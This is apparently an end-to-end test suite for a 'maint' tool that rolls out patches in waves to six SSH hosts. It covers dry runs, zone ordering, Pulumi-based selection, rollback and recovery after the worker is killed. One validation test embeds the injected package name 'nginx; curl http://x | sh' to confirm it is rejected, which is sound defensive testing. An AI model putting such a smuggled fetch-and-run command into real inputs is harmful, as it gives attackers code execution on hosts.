import type { ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { randomUUID } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runMaint, startWorkerProcess, stopWorkerProcesses } from '../helpers/cli';
import { maxConcurrentOutOfService, startRolloutFixture, type RolloutFixture } from '../helpers/rolloutFixture';
import { uniqueTaskQueue } from '../helpers/temporal';
import { until as waitUntil } from '../helpers/until';

const until = <T>(what: string | (() => string), probe: () => Promise<T | undefined> | T | undefined, timeoutMs = 90_000) => waitUntil(what, probe, timeoutMs, 200);

describe('maint rollout with a worker process and 6 real sshd hosts', () => {
  let fx: RolloutFixture;
  let dir: string;
  let env: NodeJS.ProcessEnv;
  const workers: ChildProcess[] = [];

  beforeAll(async () => {
    fx = await startRolloutFixture(6);
    dir = mkdtempSync(join(tmpdir(), 'maint-rollout-e2e-'));
    writeFileSync(join(dir, 'inventory.yaml'), fx.fleet.inventoryYaml());
    env = { TEMPORAL_ADDRESS: process.env.MAINT_TEST_TEMPORAL_ADDRESS, MAINT_TASK_QUEUE: uniqueTaskQueue('e2e-rollout'), MAINT_SSH_IDENTITY_FILE: fx.fleet.clientKey };
  });
  // Each test starts from the fleet as the fixture made it, whatever the tests before it changed.
  beforeEach(() => fx.reset());
  afterEach(() => stopWorkerProcesses(workers));
  afterAll(async () => {
    await fx?.stop();
  });

  function writePolicy(name: string, overrides = ''): string {
    const file = join(dir, name);
    writeFileSync(file, fx.policyYaml(overrides));
    return file;
  }

  it('rejects a policy with a hostile package name before connecting to anything', async () => {
    const file = join(dir, 'bad.yaml');
    writeFileSync(file, 'apiVersion: maint/v1\nkind: RolloutPolicy\nname: bad\ntargets: {inventory: inventory.yaml}\nstrategy:\n  kind: apt\n  packages: [openssl, "nginx; curl http://x | sh"]\nmaxUnavailable: "120%"\n');
    // An unreachable Temporal address: exit 2 (not 3) proves nothing was contacted.
    const result = await runMaint(['rollout', 'start', '-f', file], { TEMPORAL_ADDRESS: '127.0.0.1:1' });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`${file}:7:23: strategy.packages[1]: expected a package name`);
    expect(result.stderr).toMatch(new RegExp(`${file}:8:17: maxUnavailable: .*percentage`));
  });

  it('dry run prints the waves and what each host would install, changing nothing', async () => {
    workers.push(startWorkerProcess(env));
    const file = writePolicy('dry.yaml', 'waves: {canary: 1, batches: ["50%"]}\nmaxUnavailable: 2\n');
    const result = await runMaint(['rollout', 'start', '-f', file, '--dry-run'], env);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('6 host(s) in 3 wave(s); nothing was changed');
    expect(result.stdout).toMatch(/wave 0 \(canary\): 1 host\(s\), at most 1 at once\n {2}host-1 +version 1\.0\.0 → 2\.0\.0/);
    expect(result.stdout).toMatch(/wave 2: 2 host\(s\), at most 2 at once\n {2}host-5 +version 1\.0\.0 → 2\.0\.0\n {2}host-6 /);
    expect(fx.hosts.map((_h, i) => fx.version(i))).toEqual(Array(6).fill('1.0.0'));
    expect(fx.hosts.map((_h, i) => fx.applyCount(i))).toEqual(Array(6).fill(0));
  });

  it('dry run with waves.byZone shows each wave in one zone, zones in the order of their first host (az from a Pulumi stack)', async () => {
    workers.push(startWorkerProcess(env));
    writeFileSync(join(dir, 'zones-outputs.json'), JSON.stringify({
      inventory: fx.fleet.hosts.map((h, i) => ({
        id: `i-0${i}`, name: h.name, address: h.address, port: h.port, user: h.user, hostKeyFingerprint: h.hostKey,
        az: `eu-west-1${'baa'[i % 3]}`, tags: { Role: 'web', healthPort: h.tags.healthPort! },
      })),
    }));
    const file = writePolicy('zones.yaml', `targets: {source: {kind: pulumi-outputs-file, file: zones-outputs.json, identityFile: ${JSON.stringify(fx.fleet.clientKey)}}}\nwaves: {canary: 1, batches: ["50%"], byZone: true}\nmaxUnavailable: 2\n`);
    const result = await runMaint(['rollout', 'start', '-f', file, '--dry-run'], env);
    expect(result.code).toBe(0);
    const waves = [...result.stdout.matchAll(/^wave (\d+)(?: \(canary\))? in zone (\S+): (\d+) host\(s\)/gm)].map((m) => [Number(m[1]), m[2], Number(m[3])]);
    // Zone b: host-1, host-4; zone a: the other four. Batches of 50% (3 hosts) end at the zone's end.
    expect(waves).toEqual([[0, 'eu-west-1b', 1], [1, 'eu-west-1b', 1], [2, 'eu-west-1a', 3], [3, 'eu-west-1a', 1]]);
    expect(result.stdout).toMatch(/wave 1 in zone eu-west-1b: 1 host\(s\), at most 1 at once\n {2}host-4 /);
    expect(result.stdout).toMatch(/wave 2 in zone eu-west-1a: 3 host\(s\), at most 2 at once\n {2}host-2 .*\n {2}host-3 .*\n {2}host-5 /);
    expect(fx.hosts.map((_h, i) => fx.applyCount(i))).toEqual(Array(6).fill(0));
  });

  it('patches exactly the hosts a pulumi-outputs-file source selects (PatchGroup=web-a)', async () => {
    workers.push(startWorkerProcess(env));
    // What `pulumi stack output --json` prints for a fleet: hosts 1, 3, 5 in patch group web-a.
    writeFileSync(join(dir, 'stack-outputs.json'), JSON.stringify({
      albDnsName: 'web-alb-123.eu-west-1.elb.amazonaws.com',
      inventory: fx.fleet.hosts.map((h, i) => ({
        id: `i-0${i}`, name: h.name, address: h.address, port: h.port, user: h.user, hostKeyFingerprint: h.hostKey,
        az: `eu-west-1${'abc'[i % 3]}`, tags: { Role: 'web', PatchGroup: i % 2 === 0 ? 'web-a' : 'web-b', healthPort: h.tags.healthPort! },
      })),
    }, null, 2));
    const file = writePolicy('pulumi.yaml', `targets: {source: {kind: pulumi-outputs-file, file: stack-outputs.json, identityFile: ${JSON.stringify(fx.fleet.clientKey)}}, selector: PatchGroup=web-a}\n`);
    const result = await runMaint(['rollout', 'start', '-f', file, '--wait', '--json'], env);
    expect(result.code).toBe(0);
    const report = JSON.parse(result.stdout) as { status: string; hosts: Array<{ name: string; state: string; before: { version: string }; after: { version: string } }> };
    expect(report.status).toBe('completed');
    expect(report.hosts.map((h) => [h.name, h.state, h.before.version, h.after.version])).toEqual([
      ['host-1', 'healthy', '1.0.0', '2.0.0'], ['host-3', 'healthy', '1.0.0', '2.0.0'], ['host-5', 'healthy', '1.0.0', '2.0.0'],
    ]);
    expect(fx.hosts.map((_h, i) => fx.version(i))).toEqual(['2.0.0', '1.0.0', '2.0.0', '1.0.0', '2.0.0', '1.0.0']);
    expect([1, 3, 5].map((i) => fx.applyCount(i))).toEqual([0, 0, 0]);
  }, 120_000);

  it('ignores a version record an earlier execution with the same rollout id left on a host: records and restores what the host has now', async () => {
    workers.push(startWorkerProcess(env));
    const id = `reused-${randomUUID().slice(0, 8)}`;
    // host-1 keeps the record of an earlier rollout that had this id (another namespace, a rebuilt
    // Temporal database): it says host-1 had 0.9.0. host-2 keeps one in the format of older versions.
    const keep = (i: number, file: string, content: unknown) => {
      mkdirSync(fx.fleet.hosts[i]!.jobDir, { recursive: true });
      writeFileSync(join(fx.fleet.hosts[i]!.jobDir, file), JSON.stringify(content));
    };
    keep(0, `${id}.host-1.an-earlier-execution.record.json`, { rolloutId: id, host: 'host-1', execution: 'an-earlier-execution', record: { before: { version: '0.9.0' }, target: { version: '2.0.0' } } });
    keep(1, `${id}.host-2.record.json`, { before: { version: '0.9.0' }, target: { version: '2.0.0' } });
    // host-1 (canary) is patched; host-2 fails its health checks on 2.0.0, which halts the rollout
    // and rolls back everything patched: host-1 from the record kept on it alone.
    fx.makeUnhealthy(1, '2.0.0');
    const file = writePolicy('reused.yaml', 'waves: {canary: 1, batches: ["100%"]}\nmaxUnavailable: 1\nrollback: {scope: all-patched}\n');
    const result = await runMaint(['rollout', 'start', '-f', file, '--id', id, '--wait', '--json'], env);
    const report = JSON.parse(result.stdout) as { status: string; hosts: Array<{ name: string; state: string; before: { version: string } | null; after: { version: string } | null; ignoredRecord?: string }> };
    expect(report.status).toBe('rolled_back');
    expect(fx.version(0)).toBe('1.0.0');
    expect(fx.version(1)).toBe('1.0.0');
    const [h1, h2] = report.hosts;
    expect(h1).toMatchObject({ name: 'host-1', state: 'rolled-back', before: { version: '1.0.0' }, after: { version: '1.0.0' } });
    expect(h1!.ignoredRecord).toMatch(/another execution of rollout reused-\w+ \(run an-earlier-execution, before: version 0\.9\.0\), ignored/);
    expect(h2).toMatchObject({ name: 'host-2', state: 'rolled-back', before: { version: '1.0.0' }, after: { version: '1.0.0' } });
    expect(h2!.ignoredRecord).toMatch(/in an older format \(before: version 0\.9\.0\), ignored/);
    const table = await runMaint(['rollout', 'status', id], env);
    expect(table.stdout).toMatch(/note: host-1: found a version record left by another execution of rollout reused-\w+ .*; BEFORE is what the host had/);
  }, 180_000);

  it('survives SIGKILL of the worker mid-batch: every host patched exactly once, maxUnavailable held', async () => {
    const first = startWorkerProcess(env);
    workers.push(first);
    // A slow apply keeps hosts in flight long enough to kill the worker while one runs.
    const file = writePolicy('kill.yaml', [
      'waves: {canary: 1, batches: [2, "100%"]}',
      'maxUnavailable: 2',
      'strategy:',
      '  kind: command',
      '  target: 2.0.0',
      '  check: cat "$MAINT_HOST_DIR/version"',
      '  apply: echo {{target}} >> "$MAINT_HOST_DIR/apply.log" && sleep 3 && echo {{target}} > "$MAINT_HOST_DIR/version"',
      '  rollback: echo {{previous}} > "$MAINT_HOST_DIR/version"',
    ].join('\n'));
    const id = `kill-test-${randomUUID().slice(0, 8)}`;
    const started = await runMaint(['rollout', 'start', '-f', file, '--json', '--id', id], env);
    expect(started.code).toBe(0);
    expect(JSON.parse(started.stdout)).toEqual({ rolloutId: id, workflowId: `rollout-${id}` });

    // Kill it while host-2 (second wave) is in the middle of its apply.
    await until('host-2 to start applying', () => (fx.applyCount(1) === 1 && fx.version(1) === '1.0.0' ? true : undefined)).catch(async (err: Error) => {
      const status = await runMaint(['rollout', 'status', id], env);
      throw new Error(`${err.message}\nstatus:\n${status.stdout}${status.stderr}\nworker:\n${first.output()}`);
    });
    first.kill('SIGKILL');
    await new Promise((r) => first.once('exit', r));
    workers.push(startWorkerProcess(env));

    const report = await until('the rollout to finish', async () => {
      const status = await runMaint(['rollout', 'status', id, '--json'], env);
      const parsed = JSON.parse(status.stdout) as { status: string; hosts: Array<{ name: string; state: string; before: { version: string } | null; after: { version: string } | null; attempts: number }> };
      return parsed.status === 'running' ? undefined : { parsed, code: status.code };
    }, 180_000);
    expect(report.code).toBe(0);
    expect(report.parsed.status).toBe('completed');
    expect(report.parsed.hosts.map((h) => [h.name, h.state, h.before?.version, h.after?.version])).toEqual(fx.hosts.map((h) => [h.name, 'healthy', '1.0.0', '2.0.0']));
    expect(fx.hosts.map((_h, i) => fx.version(i))).toEqual(Array(6).fill('2.0.0'));
    expect(fx.hosts.map((_h, i) => fx.applyCount(i))).toEqual(Array(6).fill(1));
    expect(maxConcurrentOutOfService(fx.hosts.flatMap((_h, i) => fx.outOfService(i)))).toBeLessThanOrEqual(2);

    const table = await runMaint(['rollout', 'status', id], env);
    expect(table.stdout).toContain(`rollout ${id} (test-rollout): completed`);
    expect(table.stdout).toMatch(/wave 2 +\[#{20}\] 3\/3 done/);
    expect(table.stdout).toMatch(/host-4 +2 +healthy +1\.0\.0 +2\.0\.0 +1/);
    const list = await runMaint(['rollout', 'list', '--json'], env);
    expect(JSON.parse(list.stdout)).toEqual(expect.arrayContaining([expect.objectContaining({ rolloutId: id, status: 'completed' })]));
    const refused = await runMaint(['rollout', 'approve', id], env);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('approve refused');
  }, 240_000);
});
